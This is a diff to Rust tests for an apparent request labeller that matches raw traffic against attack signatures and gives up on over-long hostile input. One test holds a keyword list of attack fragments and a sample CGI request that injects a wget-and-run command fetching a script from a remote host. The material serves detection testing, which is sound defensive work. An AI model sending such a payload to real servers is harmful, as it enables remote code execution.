@@ -74,7 +74,7 @@ fn an_explanation_is_there_once_and_has_sentences_that_are_read_once() {
 
 #[test]
 fn every_signature_applies_to_its_examples() {
-    Labeller::new(written(), Vec::new())
+    Labeller::new(written(), Index::default())
         .check_examples()
         .unwrap();
 }
@@ -313,9 +313,11 @@ fn hostile_requests_take_time_in_proportion() {
 fn what_would_take_too_long_is_given_up_and_said() {
     let labeller = Labeller::built_in();
     let is_partial = |raw: &[u8]| labeller.describe(raw, None).is_partial;
-    // The beginnings of what a signature looks for, with its end missing.
+    // The beginnings of what a signature looks for, and its end out of reach. Without any end, nothing is tried.
     let words = b"select union script passwd jndi ldap wget cmd exec php cgi-bin admin ../ ";
-    assert!(is_partial(&words.repeat(900)));
+    let many = words.repeat(900);
+    assert!(is_partial(&[&many[..], b";sh"].concat()));
+    assert!(!is_partial(&many));
     assert!(!is_partial(words));
     assert!(!is_partial(
         b"GET /cgi-bin/x?cmd=wget+http://192.0.2.7/x.sh;sh+x.sh HTTP/1.1\r\n\r\n"
